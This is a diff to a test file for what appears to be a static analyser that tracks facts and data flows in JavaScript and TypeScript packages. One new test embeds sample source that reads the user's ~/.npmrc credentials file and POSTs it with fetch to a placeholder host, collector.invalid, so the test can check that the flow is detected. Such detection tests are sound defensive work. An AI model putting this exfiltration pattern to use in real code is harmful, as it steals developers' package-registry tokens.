@@ -547,12 +547,43 @@ describe('files that do not parse', () => {
     expect(ofKind(facts, 'env-read').map((e) => e.key)).toEqual(['NPM_TOKEN']);
   });
 
-  it('reads TypeScript through the token layer', () => {
+  it('reads a TypeScript namespace holding code through the token layer', () => {
     const { stats, facts } = run(
-      "import { exec } from 'child_process'; const x: string = 'a'; exec(x);",
+      "import { exec } from 'child_process';\nnamespace N { const x: string = 'a'; exec(x); }",
       'a.ts',
     );
     expect(stats.parseError).toMatch(/^unsupported/);
     expect(ofKind(facts, 'import').map((i) => i.module)).toEqual(['child_process']);
+  });
+});
+
+describe('TypeScript', () => {
+  it('parses the stripped code and points facts and flows at the original file', () => {
+    const source = [
+      "import { homedir } from 'node:os';",
+      "import { readFileSync } from 'node:fs';",
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: TypeScript source under test
+      'const load = (): string => readFileSync(`${homedir()}/.npmrc`, "utf8") as string;',
+      'export async function sync<T extends object>(opts: T): Promise<void> {',
+      '  const body: string = load();',
+      "  await fetch('https://collector.invalid/u', { method: 'POST', body } satisfies RequestInit);",
+      '}',
+    ].join('\n');
+    const { stats, facts } = run(source, 'src/sync.ts');
+    expect(stats.parsed).toBe(true);
+    const read = ofKind(facts, 'call').find((c) => c.api === 'fs.readFileSync');
+    expect(read?.at).toMatchObject({
+      file: 'src/sync.ts',
+      line: 3,
+      column: source.split('\n')[2]?.indexOf('readFileSync') + 1,
+    });
+    expect(read?.at.excerpt).toContain('as string');
+    const flow = ofKind(facts, 'flow').find((f) => f.to.kind === 'call' && f.to.api === 'fetch');
+    expect(flow?.from).toMatchObject({ kind: 'call', api: 'fs.readFileSync' });
+    expect(flow?.at.line).toBe(6);
+  });
+
+  it('leaves declaration files out of the parser', () => {
+    expect(run('export declare function f(): void;', 'index.d.ts').stats.parseError).toMatch(/^unsupported/);
   });
 });
